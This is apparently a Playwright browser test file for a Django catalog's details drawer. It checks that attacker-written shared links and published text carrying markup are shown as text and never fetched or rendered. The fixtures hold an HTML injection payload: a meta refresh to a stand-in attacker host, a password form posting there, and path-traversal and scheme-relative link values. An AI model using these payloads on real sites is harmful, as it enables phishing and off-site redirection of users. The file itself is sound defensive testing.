"""The catalog's details drawer in the system Chromium, against a shared link an attacker wrote and
published text carrying markup: the drawer asks only the named source's own details URL, shows
refusals and text, and never inserts markup it was not rendered for nor leaves the page."""

from __future__ import annotations

from urllib.parse import quote

import pytest

from atlas.services.sync import sync_catalog
from tests.conftest import make_row

pytestmark = [pytest.mark.browser, pytest.mark.django_db(transaction=True)]

HOSTILE = "MarinSkyRL:hostile"
LONG = "MarinSkyRL:" + "l" * 200
OFF_SITE = "https://attacker.invalid/"
# Unquoted attributes survive JSON's escaping: parsed as HTML, the API's JSON for this source is a
# refresh to another site and a login form posting there.
MARKUP = (
    f"<meta http-equiv=refresh content=0;url={OFF_SITE}>"
    f"<form action={OFF_SITE} id=planted><input name=password type=password></form>"
    "<img src=x id=planted-image>"
)
SHARED_LINKS = [
    pytest.param(f"../api/sources/{HOSTILE}", id="relative-api-path"),
    pytest.param(f"MarinSkyRL:a/../../api/sources/{HOSTILE}/", id="dot-segments"),
    pytest.param(f"./../api/sources/{HOSTILE}", id="leading-dot"),
    pytest.param(f"//attacker.invalid/{HOSTILE}", id="scheme-relative"),
    pytest.param(f"{HOSTILE}/../../../api/sources/{HOSTILE}", id="valid-prefix-then-dots"),
]


@pytest.fixture
def hostile_catalog(write_catalog, settings, transactional_db):
    rows = [
        make_row(HOSTILE, notes=MARKUP, display_name=f"Hostile {MARKUP}"),
        make_row(LONG, notes="y" * 90_000, display_name="z" * 250, tags=["t" * 200]),
        make_row(),
    ]
    path = write_catalog(rows)
    settings.ATLAS_CATALOG_PATH = path
    sync_catalog(catalog_path=path, force=False, trigger="command")
    return rows


def watch(page) -> dict[str, list[str]]:
    """Every request the page makes, and every one that leaves the test server (answered by
    nothing, so a navigation off-site would show as a failed page)."""
    seen: dict[str, list[str]] = {"requests": [], "off_site": []}
    page.on("request", lambda request: seen["requests"].append(request.url))
    page.route(
        lambda url: not url.startswith("http://localhost") and "127.0.0.1" not in url,
        lambda route: (seen["off_site"].append(route.request.url), route.abort()),
    )
    return seen


def planted(page) -> int:
    return page.locator(
        "#details-drawer meta, #details-drawer form, #details-drawer img, #planted, #planted-image"
    ).count()


@pytest.mark.parametrize("shared", SHARED_LINKS)
def test_a_shared_source_link_cannot_fetch_other_pages(live_server, page, hostile_catalog, shared):
    seen = watch(page)
    start = f"{live_server.url}/?source={quote(shared, safe='')}"
    page.goto(start)
    page.wait_for_function(
        "document.getElementById('drawer-body').getAttribute('aria-busy') === 'false'"
    )
    page.wait_for_timeout(300)  # a meta refresh of 0 s would have fired by now
    assert page.url == start
    assert planted(page) == 0
    assert seen["off_site"] == []
    assert not [url for url in seen["requests"] if "/api/" in url]
    body = page.locator("#drawer-body").inner_text()
    assert "Could not load this source" in body


def test_published_markup_is_shown_as_text(live_server, page, hostile_catalog):
    seen = watch(page)
    start = f"{live_server.url}/?source={quote(HOSTILE, safe='')}"
    page.goto(start)
    page.wait_for_selector("#drawer-title")
    page.wait_for_timeout(300)
    assert page.url == start and seen["off_site"] == []
    assert planted(page) == 0
    assert MARKUP in page.locator("#drawer-body .source-notes").inner_text()
    assert page.locator("#drawer-title").inner_text() == f"Hostile {MARKUP}"
    # The drawer asked the source's own details URL and nothing else on the server's API.
    assert [url for url in seen["requests"] if "/sources/" in url] == [
        f"{live_server.url}/sources/{HOSTILE}/"
    ]


def test_long_unbroken_text_stays_inside_the_window(live_server, page, hostile_catalog):
    page.set_viewport_size({"width": 1280, "height": 900})
    page.goto(f"{live_server.url}/sources/{LONG}/")
    assert page.evaluate("document.documentElement.scrollWidth - window.innerWidth") <= 0
    page.goto(f"{live_server.url}/?source={quote(LONG, safe='')}")
    page.wait_for_selector("#drawer-title")
    drawer = page.locator("#details-drawer")
    assert drawer.evaluate("d => d.scrollWidth - d.clientWidth") <= 0
    assert page.evaluate("document.documentElement.scrollWidth - window.innerWidth") <= 0
